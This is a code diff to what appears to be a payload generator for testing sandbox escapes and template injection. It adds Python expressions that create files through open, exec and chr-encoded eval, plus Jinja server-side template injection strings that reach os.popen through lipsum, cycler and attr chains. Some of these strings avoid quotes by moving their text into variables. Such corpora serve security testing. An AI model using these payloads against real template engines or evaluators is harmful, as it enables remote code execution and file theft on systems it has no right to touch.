@@ -16,10 +16,14 @@ SUBCLASS_WALK = (
 def python_with_builtins(path: str, read: str) -> tuple[str, ...]:
     """Python expressions that make the file ``path`` or give the content of ``read``, given the built-in names."""
     spelt = "+".join(f"chr({ord(letter)})" for letter in read)
+    code = "+".join(f"chr({ord(letter)})" for letter in f"open('{path}','w')")
     return (
         f"__import__('os').system('>{path}')",
         f'__import__("os").system(">{path}")',
         f"open('{path}','w').close()",
+        f"open('{path}','w')",
+        f"exec(\"open('{path}','w')\")",
+        f"eval({code})",
         f"[open('{path}','w'),1][1]",
         f"exec(\"open('{path}','w')\") or 1",
         f"open('{read}').read()",
@@ -72,4 +76,26 @@ def jinja(path: str, read: str) -> tuple[str, ...]:
         f"(g.pop|attr('{globals_}'))['\\x5f\\x5fbuiltins\\x5f\\x5f']['\\x6fpen']('{read}')|attr('re'~'ad')()",
         "(''.__class__.__mro__[-1].__subclasses__()|selectattr('__name__','equalto','_wrap_close')|first)"
         f".__init__.__globals__['popen']('{command}').read()",
+    )
+
+
+def jinja_by_variables(path: str, read: str) -> tuple[tuple[str, dict[str, str]], ...]:
+    """Jinja expressions without a quote in them, and the variables that hold their strings."""
+    command = f"cat {read}; >{path}"
+    names = {
+        "g": "__globals__",
+        "i": "__init__",
+        "b": "__builtins__",
+        "o": "open",
+        "os": "os",
+        "p": "popen",
+        "r": "read",
+    }
+    return (
+        ("lipsum.__globals__.os.popen(name).read()", {"name": command}),
+        ("cycler.__init__.__globals__.os.popen(name).read()", {"name": command}),
+        ("self.__init__.__globals__.__builtins__.open(name).read()", {"name": read}),
+        ("(lipsum|attr(g)).get(os)|attr(p)(name)|attr(r)()", {**names, "name": command}),
+        ("lipsum|attr(g)|attr(get)(os)|attr(p)(name)|attr(r)()", {**names, "get": "get", "name": command}),
+        ("self|attr(i)|attr(g)|attr(item)(b)|attr(item)(o)(name)|attr(r)()", {**names, "item": "get", "name": read}),
     )
